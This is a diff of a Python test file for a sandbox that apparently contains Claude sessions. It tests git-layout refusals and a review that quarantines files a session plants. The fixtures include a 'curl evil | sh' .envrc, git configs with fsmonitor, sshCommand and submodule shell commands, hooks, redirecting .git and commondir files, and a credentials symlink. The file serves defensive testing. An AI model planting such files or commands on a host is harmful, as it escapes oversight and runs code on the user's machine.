@@ -1,159 +1,281 @@
-"""git_layout and probe_host with real git repositories in tmp_path."""
+"""git at the edge, with real git repositories in tmp_path: git_layout and its refusals,
+probe_host, the index parser, the judgement of git files a session created, the review."""
 
 from __future__ import annotations
 
 import os
 import shutil
+import stat
 import subprocess
+from pathlib import Path
 
 import pytest
 
 import claudebox as cb
+from claudebox import Kind, Tier
 
 GIT = shutil.which("git")
 NO_GIT_OUTSIDE_CI = GIT is None and os.environ.get("CI") != "true"  # under CI: fail instead
 pytestmark = pytest.mark.skipif(NO_GIT_OUTSIDE_CI, reason="git not installed (CI fails instead)")
+ISOLATED = {"GIT_CONFIG_GLOBAL": "/dev/null", "GIT_CONFIG_NOSYSTEM": "1"}
 
 
-def git(*args, cwd):
-    subprocess.run(
+def git(*args, cwd, output=False):
+    result = subprocess.run(
         ["git", "-c", "user.name=t", "-c", "user.email=t@t", *args],
         cwd=cwd,
         check=True,
         capture_output=True,
+        text=True,
+        env={**os.environ, **ISOLATED},
     )
+    return result.stdout.strip() if output else None
 
 
-@pytest.fixture
-def repo(tmp_path):
-    top = tmp_path / "main"
-    (top / "sub" / "deeper").mkdir(parents=True)
-    git("init", "-q", cwd=top)
-    git("commit", "-q", "--allow-empty", "-m", "x", cwd=top)
-    return os.path.realpath(top)
+def init(path: Path, *args: str) -> str:
+    path.mkdir(parents=True, exist_ok=True)
+    git("init", "-q", *args, cwd=path)
+    git("commit", "-q", "--allow-empty", "-m", "x", cwd=path)
+    return os.path.realpath(path)
 
 
-def test_plain_repo_from_subdirectory(repo):
-    cwd = os.path.join(repo, "sub", "deeper")
-    assert cb.git_layout(cwd, GIT) == (repo, repo, os.path.join(repo, ".git"))
-
-
-def test_plain_repo_from_top(repo):
-    assert cb.git_layout(repo, GIT) == (repo, repo, os.path.join(repo, ".git"))
-
-
-def test_linked_worktree_outside_repo(repo, tmp_path):
-    worktree = tmp_path / "elsewhere" / "wt"
-    git("worktree", "add", "-q", "-b", "feature", str(worktree), cwd=repo)
-    worktree_real = os.path.realpath(worktree)
-    (worktree / "pkg").mkdir()
-    assert cb.git_layout(worktree_real, GIT) == (
-        worktree_real,
-        repo,
-        os.path.join(repo, ".git"),
-    )
-    assert cb.git_layout(os.path.join(worktree_real, "pkg"), GIT) == (
-        worktree_real,
-        repo,
-        os.path.join(repo, ".git"),
-    )
-    # the worktree shares its main repository's instance
-    state = str(tmp_path / "state")
-    assert cb.instance_for(repo, state) == cb.instance_for(
-        cb.git_layout(worktree_real, GIT)[1], state
-    )
-
-
-def test_outside_git(tmp_path):
-    plain = os.path.realpath(tmp_path / "plain")
-    os.mkdir(plain)
-    assert cb.git_layout(plain, GIT) == (plain, plain, None)
-
-
-def test_no_git_binary(repo):
-    assert cb.git_layout(repo, None) == (repo, repo, None)
-
-
-def test_symlinked_cwd_resolves(repo, tmp_path):
-    link = tmp_path / "link"
-    link.symlink_to(repo)
-    assert cb.git_layout(str(link), GIT) == (repo, repo, os.path.join(repo, ".git"))
-
-
-def test_probe_host_linked_worktree(repo, tmp_path, monkeypatch):
-    home = tmp_path / "home"
-    home.mkdir()
-    worktree = tmp_path / "wt"
-    git("worktree", "add", "-q", "-b", "feature", str(worktree), cwd=repo)
-    (worktree / ".envrc").write_text("")
-    monkeypatch.chdir(worktree)
-    env = {"HOME": str(home), "PATH": os.path.dirname(GIT or "/usr/bin/git")}
-    host = cb.probe_host(env)
-    wt = os.path.realpath(worktree)
-    assert (host.project, host.canonical_root, host.git_common_dir) == (
-        wt,
-        repo,
-        os.path.join(repo, ".git"),
-    )
-    assert host.cwd == wt
-    project_existing = sorted(p for p in host.existing if not p.startswith("/etc/"))
-    assert project_existing == [
-        f"{repo}/.git/config",
-        f"{repo}/.git/hooks",
-        f"{wt}/.envrc",
-    ]
-    assert host.claude_dir_entries == {}
-    assert host.host_claude_json == {}
-    assert host.state_dir == os.path.join(os.path.realpath(home), ".claudebox")
-
-
-def test_probe_host_plain_repo_has_no_separate_common_dir(repo, tmp_path, monkeypatch):
-    home = tmp_path / "home"
-    (home / ".claude" / "projects").mkdir(parents=True)
-    (home / ".claude" / "settings.json").write_text("{}")
-    (home / ".claude.json").write_text('{"theme": "light", "mcpServers": {}}')
-    monkeypatch.chdir(os.path.join(repo, "sub"))
-    env = {"HOME": str(home), "PATH": os.path.dirname(GIT or "/usr/bin/git")}
-    host = cb.probe_host(env)
-    assert (host.project, host.canonical_root, host.git_common_dir) == (repo, repo, None)
-    assert host.cwd == os.path.join(repo, "sub")
-    assert host.claude_dir_entries == {"projects": True, "settings.json": False}
-    assert host.host_claude_json == {"theme": "light", "mcpServers": {}}
-
-
-def test_probe_host_submodule_hooks_and_config_read_only(tmp_path, monkeypatch):
-    """The host's git runs a submodule's hooks from .git/modules/<name>/hooks (threat model:
-    nothing the host later executes may be writable from inside)."""
-    home = tmp_path / "home"
-    home.mkdir()
-    library = tmp_path / "library"
-    library.mkdir()
-    git("init", "-q", cwd=library)
-    git("commit", "-q", "--allow-empty", "-m", "x", cwd=library)
-    superproject = tmp_path / "super"
-    superproject.mkdir()
-    git("init", "-q", cwd=superproject)
+def add_submodule(library: str, superproject: str) -> None:
+    """`git submodule add LIBRARY lib`: an absorbed submodule (.git/modules/lib)."""
     git(
         "-c",
         "protocol.file.allow=always",
         "submodule",
         "-q",
         "add",
-        str(library),
+        library,
         "lib",
         cwd=superproject,
     )
-    monkeypatch.chdir(superproject)
-    env = {"HOME": str(home), "PATH": os.path.dirname(GIT or "/usr/bin/git")}
-    plan = cb.build_plan(cb.probe_host(env), cb.Options(), ())
-    modules = os.path.join(os.path.realpath(superproject), ".git", "modules", "lib")
-    read_only = {m.dst for m in plan.mounts if m.op == "ro-bind"}
-    assert f"{modules}/hooks" in read_only
-    assert f"{modules}/config" in read_only
+
+
+def layout(cwd) -> cb.GitLayout:
+    cwd = os.path.realpath(cwd)
+    probe, config = cb.git_probe(cwd, GIT)
+    return cb.git_layout(cwd, GIT, probe, config.get("core.hookspath", ""))
+
+
+def refusal(cwd) -> str:
+    with pytest.raises(cb.ClaudeboxError) as info:
+        layout(cwd)
+    assert info.value.exit_code == 2
+    return str(info.value)
+
+
+@pytest.fixture
+def repo(tmp_path):
+    top = tmp_path / "main"
+    (top / "sub" / "deeper").mkdir(parents=True)
+    return init(top)
+
+
+# --- git_layout -----------------------------------------------------------------------------
+
+
+def test_plain_repo_from_subdirectory_and_top(repo):
+    expected = cb.GitLayout(repo, repo, f"{repo}/.git", False, "", GIT)
+    assert layout(os.path.join(repo, "sub", "deeper")) == expected
+    assert layout(repo) == expected
+
+
+def test_core_hooks_path_is_resolved_against_the_work_tree(repo):
+    git("config", "core.hooksPath", ".husky", cwd=repo)
+    assert layout(os.path.join(repo, "sub")).hooks_path == f"{repo}/.husky"
+
+
+def test_linked_worktree_outside_repo(repo, tmp_path):
+    worktree = tmp_path / "elsewhere" / "wt"
+    git("worktree", "add", "-q", "-b", "feature", str(worktree), cwd=repo)
+    real = os.path.realpath(worktree)
+    (worktree / "pkg").mkdir()
+    expected = cb.GitLayout(real, repo, f"{repo}/.git", True, "", GIT)
+    assert layout(real) == expected
+    assert layout(os.path.join(real, "pkg")) == expected
+
+
+def test_absorbed_submodule(tmp_path):
+    library = init(tmp_path / "library")
+    superproject = init(tmp_path / "super")
+    add_submodule(library, superproject)
+    assert layout(f"{superproject}/lib") == cb.GitLayout(
+        f"{superproject}/lib",
+        f"{superproject}/lib",
+        f"{superproject}/.git/modules/lib",
+        True,
+        "",
+        GIT,
+    )
+
+
+def test_outside_git_and_without_git(tmp_path, repo):
+    plain = os.path.realpath(tmp_path / "plain")
+    os.mkdir(plain)
+    assert layout(plain) == cb.GitLayout(plain, plain, "", False)
+    assert cb.git_layout(repo, None, None) == cb.GitLayout(repo, repo, "", False)
+
+
+def test_symlinked_cwd_resolves(repo, tmp_path):
+    link = tmp_path / "link"
+    link.symlink_to(repo)
+    assert layout(link).top == repo
+
+
+def test_a_planted_core_worktree_pointing_elsewhere_is_refused(tmp_path):
+    other = init(tmp_path / "other")
+    planted = tmp_path / "project"
+    (planted / "sub").mkdir(parents=True)
+    git("init", "-q", cwd=planted)
+    git("config", "core.worktree", other, cwd=planted)
+    cwd = os.path.realpath(planted / "sub")
+    assert refusal(cwd) == (
+        f"git says the work tree of {cwd} is {other} (a core.worktree setting or a .git file "
+        f"in {os.path.realpath(planted)}/.git); claudebox binds only the current directory or "
+        "one of its ancestors read-write; remove that setting, or run claudebox from the work "
+        "tree"
+    )
+
+
+def test_a_git_file_pointing_at_another_repository_is_refused(tmp_path):
+    other = init(tmp_path / "other")
+    project = tmp_path / "project"
+    project.mkdir()
+    (project / ".git").write_text(f"gitdir: {other}/.git\n")
+    top = os.path.realpath(project)
+    assert refusal(project) == (
+        f"{top}/.git points git at {other}/.git, which is neither a linked worktree "
+        "(git worktree add) nor a submodule of an enclosing repository pointing back at "
+        f"{top}; claudebox will not give the sandbox write access to it; run claudebox where "
+        "the repository's .git directory is, or fix the .git file"
+    )
+
+
+def test_a_worktree_admin_directory_not_pointing_back_is_refused(repo, tmp_path):
+    worktree = tmp_path / "wt"
+    git("worktree", "add", "-q", "-b", "feature", str(worktree), cwd=repo)
+    impostor = tmp_path / "impostor"
+    impostor.mkdir()
+    (impostor / ".git").write_text(f"gitdir: {repo}/.git/worktrees/wt\n")
+    assert refusal(impostor).startswith(f"{os.path.realpath(impostor)}/.git points git at")
+
+
+def test_a_commondir_in_a_main_repository_is_refused(repo, tmp_path):
+    other = init(tmp_path / "other")
+    Path(repo, ".git", "commondir").write_text(f"{other}/.git\n")
+    assert refusal(repo) == (
+        f"{repo}/.git/commondir points git at {other}/.git: not a normal repository "
+        "(a session may have planted it); remove that file"
+    )
+
+
+def test_a_git_symlink_is_refused(tmp_path):
+    other = init(tmp_path / "other")
+    project = tmp_path / "project"
+    project.mkdir()
+    (project / ".git").symlink_to(f"{other}/.git")
+    assert refusal(project) == (
+        f"{os.path.realpath(project)}/.git is a symlink: git's own directory or a gitdir "
+        "pointer belongs there; replace or remove it"
+    )
+
+
+# --- protected_walks and probe_host ---------------------------------------------------------
+
+
+def probe(cwd, home: Path, tier=Tier.FULL) -> cb.HostFacts:
+    env = {"HOME": str(home), "PATH": os.path.dirname(GIT or "/usr/bin/git"), **ISOLATED}
+    return cb.probe_host(env, tier, cwd=str(cwd))
+
+
+def test_probe_host_linked_worktree(repo, tmp_path):
+    home = tmp_path / "home"
+    home.mkdir()
+    worktree = tmp_path / "wt"
+    git("worktree", "add", "-q", "-b", "feature", str(worktree), cwd=repo)
+    (worktree / ".envrc").write_text("")
+    host = probe(worktree, home)
+    wt = os.path.realpath(worktree)
+    assert host.git == cb.GitLayout(wt, repo, f"{repo}/.git", True, "", GIT)
+    assert host.cwd == wt
+    present = sorted(w.path for w in host.protected if w.steps[-1].path == w.path)
+    present = [p for p in present if cb.inspect(p).kind is not Kind.MISSING]
+    assert present == [
+        f"{repo}/.git/config",
+        f"{repo}/.git/hooks",
+        f"{repo}/.git/worktrees/wt/commondir",
+        f"{repo}/.git/worktrees/wt/gitdir",
+        f"{wt}/.envrc",
+        f"{wt}/.git",
+    ]
+    assert host.claude_home == cb.ClaudeHome(f"{os.path.realpath(home)}/.claude", (), {})
+    assert host.state_dir == os.path.join(os.path.realpath(home), ".claudebox")
+    assert (host.host_networks, host.tun_error) == ((), None)  # read only for inet
+
+
+def test_probe_host_reads_claude_home(repo, tmp_path):
+    home = tmp_path / "home"
+    (home / ".claude" / "projects").mkdir(parents=True)
+    (home / ".claude" / "settings.json").write_text("{}")
+    (home / ".claude" / "CLAUDE.md").symlink_to("/nix/store/x-claude.md")
+    (home / ".claude.json").write_text('{"theme": "light", "mcpServers": {}}')
+    host = probe(os.path.join(repo, "sub"), home)
+    claude = f"{os.path.realpath(home)}/.claude"
+    assert host.git == cb.GitLayout(repo, repo, f"{repo}/.git", False, "", GIT)
+    assert host.cwd == os.path.join(repo, "sub")
+    assert host.claude_home == cb.ClaudeHome(
+        claude,
+        (
+            cb.Entry(f"{claude}/CLAUDE.md", Kind.LINK, "/nix/store/x-claude.md", ""),
+            cb.Entry(f"{claude}/projects", Kind.DIR),
+            cb.Entry(f"{claude}/settings.json", Kind.FILE),
+        ),
+        {"theme": "light", "mcpServers": {}},
+    )
+
+
+def test_probe_host_submodule_hooks_and_config_read_only(tmp_path):
+    """The host's git runs a submodule's hooks from .git/modules/<name>/hooks (threat model:
+    nothing the host later executes may be writable from inside)."""
+    home = tmp_path / "home"
+    home.mkdir()
+    library = init(tmp_path / "library")
+    superproject = init(tmp_path / "super")
+    add_submodule(library, superproject)
+    plan = cb.build_plan(probe(superproject, home), cb.Options(tier=Tier.FULL))
+    modules = f"{superproject}/.git/modules/lib"
+    read_only = {pin.path for pin in plan.stage.pins if pin.read_only}
+    assert {f"{modules}/hooks", f"{modules}/config", f"{superproject}/.gitmodules"} <= read_only
+    assert f"{superproject}/lib/.git" in read_only  # the gitdir pointer of the checkout
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="claudebox: the gitlink walk to DEP/.git ends at a directory, which plan_protected "
+    "makes read-only (it wins over 'pinned'): the whole .git of such a submodule is read-only "
+    "inside, so git cannot commit there; only its config and hooks need to be",
+)
+def test_a_submodule_with_its_own_git_directory_is_protected(tmp_path):
+    """A gitlink whose checkout holds a .git directory (not absorbed): found through the index."""
+    home = tmp_path / "home"
+    home.mkdir()
+    superproject = init(tmp_path / "super")
+    nested = init(tmp_path / "super" / "vendor" / "dep")
+    sha = git("rev-parse", "HEAD", cwd=nested, output=True)
+    git("update-index", "--add", "--cacheinfo", f"160000,{sha},vendor/dep", cwd=superproject)
+    Path(superproject, ".gitmodules").write_text('[submodule "dep"]\n\tpath = vendor/dep\n')
+    plan = cb.build_plan(probe(superproject, home), cb.Options(tier=Tier.FULL))
+    pins = {pin.path: pin for pin in plan.stage.pins}
+    assert pins[f"{nested}/.git/hooks"].read_only
+    assert pins[f"{nested}/.git/config"].read_only
+    assert f"{nested}/.git/config.worktree" in plan.watched
+    assert pins[f"{nested}/.git"] == cb.Pin(f"{nested}/.git", Kind.DIR, False, reason="pinned")
 
 
 @pytest.mark.parametrize("secret", [".ssh", ".claude"])
-def test_secret_path_behind_symlink_refused(tmp_path, monkeypatch, secret):
+def test_secret_path_behind_symlink_refused(tmp_path, secret):
     """~/.ssh -> /persist/ssh (impermanence) or ~/.claude -> ~/dotfiles/claude: a project
     holding the link's target holds the secret itself and must be refused."""
     home = tmp_path / "home"
@@ -162,8 +284,349 @@ def test_secret_path_behind_symlink_refused(tmp_path, monkeypatch, secret):
     (dotfiles / "target").mkdir(parents=True)
     (dotfiles / "target" / "id_ed25519").write_text("canary")
     (home / secret).symlink_to(dotfiles / "target")
-    monkeypatch.chdir(dotfiles)
     env = {"HOME": str(home), "PATH": str(tmp_path / "nobin")}
+    host = cb.probe_host(env, Tier.FULL, cwd=str(dotfiles))
     with pytest.raises(cb.ClaudeboxError) as info:
-        cb.build_plan(cb.probe_host(env), cb.Options(), ())
+        cb.build_plan(host, cb.Options(tier=Tier.FULL))
     assert info.value.exit_code == 2
+    real = os.path.realpath(dotfiles)
+    assert str(info.value).startswith(f"the project directory {real} would expose {real}/target; ")
+
+
+# --- index_gitlinks -------------------------------------------------------------------------
+
+
+def index_with_gitlinks(tmp_path: Path, version: int, object_format: str = "sha1") -> str:
+    top = init(tmp_path / f"repo-{version}-{object_format}", f"--object-format={object_format}")
+    blob = git("hash-object", "-w", "--stdin", cwd=top, output=True)
+    commit = git("rev-parse", "HEAD", cwd=top, output=True)
+    long_path = "/".join(["d" * 200] * 22) + "/long-module"  # longer than a name length field
+    for path, mode, sha in [
+        ("a.txt", "100644", blob),
+        ("lib/one", "160000", commit),
+        ("lib/one-file", "100644", blob),
+        ("lib/two", "160000", commit),
+        ("vendor/deep/three", "160000", commit),
+        (long_path, "160000", commit),
+        ("z.txt", "100644", blob),
+    ]:
+        git("update-index", "--add", "--cacheinfo", f"{mode},{sha},{path}", cwd=top)
+    if version >= 3:  # an extended flag (git writes version 3 for it)
+        git("update-index", "--skip-worktree", "lib/one-file", cwd=top)
+    git("update-index", "--index-version", str(version), cwd=top)
+    index = os.path.join(top, ".git", "index")
+    with open(index, "rb") as handle:
+        assert handle.read(8) == b"DIRC" + version.to_bytes(4, "big")
+    return index
+
+
+EXPECTED_LINKS = [  # in the index's order: sorted by path
+    "/".join(["d" * 200] * 22) + "/long-module",
+    "lib/one",
+    "lib/two",
+    "vendor/deep/three",
+]
+
+
+SHA256_V4_MISREAD = pytest.mark.xfail(
+    strict=True,
+    reason="claudebox bug: a SHA-256 index of version 4 parses without error as SHA-1 "
+    "(nothing checks a v4 entry), so its gitlinks come out as garbage",
+)
+
+
+@pytest.mark.parametrize(
+    ("version", "object_format"),
+    [
+        (2, "sha1"),
+        (3, "sha1"),
+        (4, "sha1"),  # what feature.manyFiles writes
+        (2, "sha256"),
+        (3, "sha256"),
+        pytest.param(4, "sha256", marks=SHA256_V4_MISREAD),
+    ],
+)
+def test_index_gitlinks(tmp_path, version, object_format):
+    index = index_with_gitlinks(tmp_path, version, object_format)
+    assert cb.index_gitlinks(index) == EXPECTED_LINKS
+
+
+@pytest.mark.parametrize(
+    "content",
+    [b"", b"DIRC", b"DIRC\x00\x00\x00\x05\x00\x00\x00\x01", b"not an index at all" * 10],
+)
+def test_index_gitlinks_of_garbage_is_empty(tmp_path, content):
+    index = tmp_path / "index"
+    index.write_bytes(content)
+    assert cb.index_gitlinks(str(index)) == []
+    assert cb.index_gitlinks(str(tmp_path / "absent")) == []
+
+
+def test_a_truncated_index_gives_no_more_than_it_holds(tmp_path):
+    data = Path(index_with_gitlinks(tmp_path, 2)).read_bytes()
+    for cut in range(12, len(data), 97):
+        truncated = tmp_path / "truncated"
+        truncated.write_bytes(data[:cut])
+        links = cb.index_gitlinks(str(truncated))
+        assert links == EXPECTED_LINKS[: len(links)]
+
+
+# --- what a session created: git_config_inert, judge_created, review_session ----------------
+
+GIT_INIT_CONFIG = (
+    "[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n"
+    "\tlogallrefupdates = true\n"
+)
+
+
+def config_file(tmp_path: Path, text: str) -> str:
+    path = tmp_path / "config"
+    path.write_text(text)
+    return str(path)
+
+
+def test_what_git_init_and_git_clone_write_is_inert(tmp_path):
+    assert cb.git_config_inert(GIT, config_file(tmp_path, GIT_INIT_CONFIG), "/r/.git", "/r") == (
+        True,
+        "",
+    )
+    fresh = init(tmp_path / "fresh")
+    assert cb.git_config_inert(GIT, f"{fresh}/.git/config", f"{fresh}/.git", fresh) == (True, "")
+    clone = tmp_path / "clone"
+    git("clone", "-q", fresh, str(clone), cwd=tmp_path)
+    real = os.path.realpath(clone)
+    assert cb.git_config_inert(GIT, f"{real}/.git/config", f"{real}/.git", real) == (True, "")
+
+
+def test_a_submodule_config_is_inert(tmp_path):
+    library = init(tmp_path / "library")
+    superproject = init(tmp_path / "super")
+    add_submodule(library, superproject)
+    modules = f"{superproject}/.git/modules/lib"
+    assert "worktree = ../../../lib" in Path(modules, "config").read_text()
+    assert cb.git_config_inert(GIT, f"{modules}/config", modules, superproject) == (True, "")
+    assert cb.git_config_inert(GIT, f"{superproject}/.git/config", "", superproject) == (True, "")
+
+
+@pytest.mark.parametrize(
+    ("text", "why"),
+    [
+        (GIT_INIT_CONFIG + "\tfsmonitor = touch /tmp/pwned\n", "core.fsmonitor"),
+        (GIT_INIT_CONFIG + "\thooksPath = /tmp/hooks\n", "core.hookspath"),
+        (GIT_INIT_CONFIG + "\tsshCommand = sh -c x\n", "core.sshcommand"),
+        ("[include]\n\tpath = /tmp/more\n", "include.path"),
+        ('[submodule "x"]\n\tupdate = !sh -c x\n', "submodule.x.update = !sh -c x"),
+        ('[remote "origin"]\n\tuploadpack = sh -c x\n', "remote.origin.uploadpack"),
+        (GIT_INIT_CONFIG + "\tworktree = /elsewhere\n", "core.worktree = /elsewhere"),
+        (GIT_INIT_CONFIG + "\tworktree = ../../outside\n", "core.worktree = ../../outside"),
+        ("[[[ not a config", "not a git config git can read"),
+    ],
+)
+def test_configuration_the_host_would_obey_is_not_inert(tmp_path, text, why):
+    top = tmp_path / "project"
+    assert cb.git_config_inert(GIT, config_file(tmp_path, text), f"{top}/.git", str(top)) == (
+        False,
+        why,
+    )
+
+
+def test_safe_submodule_updates_and_dotted_branch_names_are_inert(tmp_path):
+    text = (
+        '[submodule "x"]\n\tupdate = rebase\n\tpath = x\n\turl = ../x\n'
+        '[branch "feature.one"]\n\tremote = origin\n\tmerge = refs/heads/feature.one\n'
+    )
+    assert cb.git_config_inert(GIT, config_file(tmp_path, text), "/r/.git", "/r") == (True, "")
+
+
+@pytest.fixture
+def session_repo(tmp_path):
+    top = init(tmp_path / "project")
+    return top, cb.GitLayout(top, top, f"{top}/.git", False, "", GIT)
+
+
+def test_judge_created(session_repo, tmp_path):
+    top, layout_ = session_repo
+    other = init(tmp_path / "other")
+    files = {
+        f"{top}/.envrc": "use flake\n",
+        f"{top}/.git/config.worktree": "[core]\n\tfsmonitor = x\n",
+        f"{top}/sub/.git": f"gitdir: {other}/.git\n",
+        f"{top}/lib/.git": f"gitdir: {top}/.git/modules/lib\n",
+        f"{top}/.git/worktrees/wt/commondir": "../..\n",
+        f"{top}/.git/worktrees/evil/commondir": f"{other}/.git\n",
+        f"{top}/.git/worktrees/wt/gitdir": "/somewhere/.git\n",
+        f"{top}/.git/modules/lib/config": GIT_INIT_CONFIG,
+    }
+    for path, text in files.items():
+        os.makedirs(os.path.dirname(path), exist_ok=True)
+        Path(path).write_text(text)
+    hooks = Path(top, ".git", "modules", "lib", "hooks")
+    hooks.mkdir()
+    (hooks / "pre-commit.sample").write_text("")
+    samples_only = Path(top, ".git", "modules", "lib2", "hooks")
+    samples_only.mkdir(parents=True)
+    (samples_only / "update.sample").write_text("")
+    (hooks / "post-checkout").write_text("")
+    Path(top, ".gitmodules").symlink_to("/tmp/x")
+    nested = init(Path(top, "nested"))
+    assert {path: cb.judge_created(path, layout_) for path in [*files, str(hooks)]} == {
+        f"{top}/.envrc": "",
+        f"{top}/.git/config.worktree": "git configuration the host's git would obey "
+        "(core.fsmonitor)",
+        f"{top}/sub/.git": f"a .git file sending git to {other}/.git",
+        f"{top}/lib/.git": None,
+        f"{top}/.git/worktrees/wt/commondir": None,
+        f"{top}/.git/worktrees/evil/commondir": f"a commondir sending git to {other}/.git",
+        f"{top}/.git/worktrees/wt/gitdir": None,
+        f"{top}/.git/modules/lib/config": None,
+        str(hooks): "git hooks (post-checkout)",
+    }
+    assert cb.judge_created(str(samples_only), layout_) is None
+    assert cb.judge_created(f"{top}/.gitmodules", layout_) == "a symlink to /tmp/x"
+    assert cb.judge_created(f"{nested}/.git", layout_) is None  # its files are judged alone
+    outside_git = cb.GitLayout(nested, nested, "", False)
+    assert cb.judge_created(f"{nested}/.git", outside_git) == ""  # a new repository: reported
+
+
+def test_review_session_reports_and_moves_aside(tmp_path):
+    home = tmp_path / "home"
+    (home / ".claude").mkdir(parents=True)
+    credentials = home / ".claude" / ".credentials.json"
+    credentials.write_text("{}")
+    credentials.chmod(0o600)
+    top = init(tmp_path / "project")
+    host = probe(top, home)
+    before = cb.take_snapshot(host)
+    assert before.credentials == (stat.S_IFREG | 0o600, credentials.stat().st_ino)
+    # the session (inside, read-only paths pinned) could create these:
+    Path(top, ".envrc").write_text("curl evil | sh\n")
+    Path(top, ".git", "config.worktree").write_text("[core]\n\tfsmonitor = touch /tmp/x\n")
+    Path(top, ".claude").mkdir()
+    Path(top, ".claude", "settings.json").write_text("{}")
+    (home / ".claude" / "statusline.sh").write_text("#!/bin/sh\n")
+    (home / ".claude" / "projects").mkdir()  # per-project: not news
+    (home / ".claude" / ".oauth_refresh.lock").write_text("")  # claude's own
+    credentials.chmod(0o644)
+    findings = cb.review_session(host, before)
+    claude = os.path.realpath(home / ".claude")
+    assert findings == [
+        cb.Finding(
+            f"{top}/.envrc",
+            f"created {top}/.envrc: git, direnv, an editor or claude outside the sandbox may run "
+            "what it says; review it",
+        ),
+        cb.Finding(
+            f"{top}/.claude/settings.json",
+            f"created {top}/.claude/settings.json: git, direnv, an editor or claude outside the "
+            "sandbox may run what it says; review it",
+        ),
+        cb.Finding(
+            f"{top}/.git/config.worktree",
+            f"created {top}/.git/config.worktree: git configuration the host's git would obey "
+            "(core.fsmonitor)",
+            f"{top}/.git/config.worktree.claudebox-quarantined",
+        ),
+        cb.Finding(
+            f"{claude}/statusline.sh",
+            f"created {claude}/statusline.sh: a new entry in your ~/.claude, seen by every "
+            "project's sandbox and by your own claude; review it",
+        ),
+        cb.Finding(
+            f"{claude}/.credentials.json",
+            f"made {claude}/.credentials.json readable by others (mode 0644); run chmod 600 "
+            f"{claude}/.credentials.json",
+        ),
+    ]
+    assert not os.path.lexists(f"{top}/.git/config.worktree")
+    assert Path(top, ".envrc").exists()  # reported, left in place
+    assert cb.render_findings(findings).splitlines()[2] == (
+        f"claudebox: warning: the session created {top}/.git/config.worktree: git configuration "
+        "the host's git would obey (core.fsmonitor); moved it to "
+        f"{top}/.git/config.worktree.claudebox-quarantined (move it back only if you trust it)"
+    )
+
+
+def test_review_session_reports_a_credentials_symlink(tmp_path):
+    home = tmp_path / "home"
+    (home / ".claude").mkdir(parents=True)
+    top = init(tmp_path / "project")
+    host = probe(top, home)
+    before = cb.take_snapshot(host)
+    credentials = home / ".claude" / ".credentials.json"
+    credentials.symlink_to(f"{top}/stolen.json")
+    claude = os.path.realpath(home / ".claude")
+    assert cb.review_session(host, before) == [
+        cb.Finding(
+            f"{claude}/.credentials.json",
+            f"replaced {claude}/.credentials.json by a symlink to {top}/stolen.json: your own "
+            "claude would follow it; remove it and log in again",
+        )
+    ]
+
+
+def test_quarantine_never_overwrites(tmp_path):
+    for number in range(3):
+        (tmp_path / "hooks").write_text(str(number))
+        cb.quarantine(str(tmp_path / "hooks"))
+    assert sorted(os.listdir(tmp_path)) == [
+        "hooks.claudebox-quarantined",
+        "hooks.claudebox-quarantined-2",
+        "hooks.claudebox-quarantined-3",
+    ]
+
+
+def unchanged_review(top, home: Path) -> list[cb.Finding]:
+    host = probe(top, home)
+    return cb.review_session(host, cb.take_snapshot(host))
+
+
+def test_a_session_that_changes_nothing_is_not_reported(tmp_path):
+    home = tmp_path / "home"
+    (home / ".claude").mkdir(parents=True)
+    (home / ".claude" / "mystery").mkdir()
+    repo = init(tmp_path / "main")
+    Path(repo, ".git", "hooks", "pre-commit").write_text("#!/bin/sh\n")
+    git("config", "user.email", "me@example.org", cwd=repo)
+    worktree = tmp_path / "wt"
+    git("worktree", "add", "-q", "-b", "feature", str(worktree), cwd=repo)
+    library = init(tmp_path / "library")
+    add_submodule(library, repo)
+    for top in (repo, worktree, f"{repo}/lib", tmp_path / "library"):
+        assert unchanged_review(top, home) == []
+    assert os.path.isdir(f"{repo}/.git/hooks")
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="claudebox: at launch the index is read only when .gitmodules exists, after the "
+    "session always; an embedded repository (a gitlink without .gitmodules, `git add` of a "
+    "nested repo) is then walked only by the review, which takes its existing hooks and "
+    "config for new ones and moves them aside",
+)
+def test_an_embedded_repository_without_gitmodules_is_left_alone(tmp_path):
+    home = tmp_path / "home"
+    home.mkdir()
+    top = init(tmp_path / "super")
+    nested = init(tmp_path / "super" / "dep")
+    Path(nested, ".git", "hooks", "pre-commit").write_text("#!/bin/sh\n")
+    git("add", "dep", cwd=top)  # "adding embedded repository": a gitlink, no .gitmodules
+    assert unchanged_review(top, home) == []
+
+
+def test_a_repository_the_session_creates_is_reviewed_like_one_that_existed(tmp_path):
+    home = tmp_path / "home"
+    home.mkdir()
+    top = tmp_path / "plain"
+    top.mkdir()
+    host = probe(top, home)
+    assert host.git.git_dir == ""
+    before = cb.take_snapshot(host)
+    git("init", "-q", cwd=top)  # the session's own repository, with a hook and an fsmonitor
+    Path(top, ".git", "hooks", "post-checkout").write_text("#!/bin/sh\n")
+    git("config", "core.fsmonitor", "sh -c x", cwd=top)
+    top = os.path.realpath(top)
+    assert [(f.path, f.moved_to) for f in cb.review_session(host, before)] == [
+        (f"{top}/.git", ""),
+        (f"{top}/.git/config", f"{top}/.git/config.claudebox-quarantined"),
+        (f"{top}/.git/hooks", f"{top}/.git/hooks.claudebox-quarantined"),
+    ]
